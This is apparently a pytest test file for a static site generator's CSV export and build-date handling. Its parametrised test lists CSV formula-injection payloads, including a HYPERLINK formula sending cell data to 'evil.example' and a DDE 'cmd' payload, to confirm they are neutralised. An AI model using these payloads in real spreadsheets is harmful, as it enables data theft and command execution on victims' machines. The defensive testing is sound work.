"""Issue 18: the data files and the build date.

CSV cells are never formulas (OWASP: a leading apostrophe, the text kept readable); the build date
is today in the site's time zone, whatever the machine's.
"""
from __future__ import annotations

import json
import csv
import io
import os
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings, strategies as st

from conftest import ROOT, run_build
from disclosure.outputs.data import COLUMNS, write_csv

PLAN = "content/plans/demo-2019"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def csv_cells(values: dict) -> dict:
    out = io.BytesIO()
    write_csv(out, [{column: values.get(column, "") for column in COLUMNS}])
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    return dict(zip(rows[0], rows[1]))


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1", "  =1+1", "＝1+1", "\u3000=1"])
def test_csv_cells_starting_like_a_formula_are_neutralised(text):
    cell = csv_cells({"problem": text, "measures": [text, "第二条"]})
    assert cell["problem"] == "'" + text
    assert cell["measures"] == "'" + text + "\n第二条"


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cs",)), max_size=40))
def test_no_csv_cell_is_a_formula_and_the_text_stays(text):
    cell = csv_cells({"problem": text, "goal": text})["problem"]
    assert not cell.lstrip(" \u3000").startswith(DANGEROUS)
    assert cell in (text, "'" + text)  # readable: the text itself, at most an apostrophe before it


def test_a_built_sites_csv_is_neutralised(basic_site, tmp_path):
    path = basic_site / PLAN / "02.md"
    path.write_text(path.read_text().replace("problem: 饮用水源保护区内存在违法建筑。", "problem: '=1+2'"))
    output = tmp_path / "out"
    assert run_build(basic_site, output=output).returncode == 0
    rows = list(csv.DictReader(io.StringIO((output / "data/issues.csv").read_text(encoding="utf-8-sig"), newline="")))
    assert [row["problem"] for row in rows if row["number"] == "2"] == ["'=1+2"]


def machine_zone_on_another_day() -> str:
    """A time zone whose date now differs from Shanghai's (one of the two always does)."""
    shanghai = datetime.now(ZoneInfo("Asia/Shanghai")).date()
    for zone, offset in (("Etc/GMT+12", -12), ("Etc/GMT-14", 14)):
        if (datetime.now(timezone.utc) + timedelta(hours=offset)).date() != shanghai:
            return zone
    raise AssertionError("unreachable")


@pytest.mark.parametrize("configured", [None, "Asia/Shanghai", "Asia/Urumqi"])
def test_the_build_date_is_the_sites_date_not_the_machines(basic_site, tmp_path, configured):
    """A problem due for publication today, in the site's zone, is published by a machine whose
    clock is on another day (and one due tomorrow there is not)."""
    zone = configured or "Asia/Shanghai"
    if configured:
        config = basic_site / "site_config.yaml"
        config.write_text(config.read_text() + f"timezone: {configured}\n")
    today = datetime.now(ZoneInfo(zone)).date()
    for name, day in (("01.md", today), ("03.md", today + timedelta(days=1))):
        path = basic_site / PLAN / name
        text = path.read_text()
        for key in ("completed_on", "published_on"):
            text = "\n".join(f"{key}: {day - timedelta(days=1) if key == 'completed_on' else day}"
                             if line.startswith(f"{key}:") else line for line in text.split("\n"))
        if "published_on:" not in text:
            text = text.replace("status: ", f"published_on: {day}\ncompleted_on: {day - timedelta(days=1)}\nstatus: ", 1)
        path.write_text(text.replace("status: in progress", "status: done").replace("status: not started", "status: done"))
    output = tmp_path / "out"
    environment = {**os.environ, "TZ": machine_zone_on_another_day()}
    result = subprocess.run([sys.executable, str(ROOT / "build.py"), "build", "--output", str(output)], cwd=basic_site,
                            capture_output=True, text=True, env=environment, timeout=300)
    assert result.returncode == 0, result.stderr
    assert f"for {today}" in result.stdout
    published = {row["number"]: row["published"] for row in json.loads((output / "data/issues.json").read_text())}
    assert published[1] and not published[3]  # (3's page shows its plan fields only: not its record)
    assert "SECRET-RECORD-03" not in (output / "plans/demo-2019/issues/3.html").read_text()


def test_an_unknown_time_zone_is_an_error(basic_site, tmp_path):
    config = basic_site / "site_config.yaml"
    config.write_text(config.read_text() + "timezone: Mars/Olympus\n")
    line = len(config.read_text().splitlines())
    result = run_build(basic_site, output=tmp_path / "out")
    assert result.returncode == 1
    assert result.stderr.splitlines()[0] == (
        f"site_config.yaml:{line}: timezone: 'Mars/Olympus' is not a time zone; write it like Asia/Shanghai")
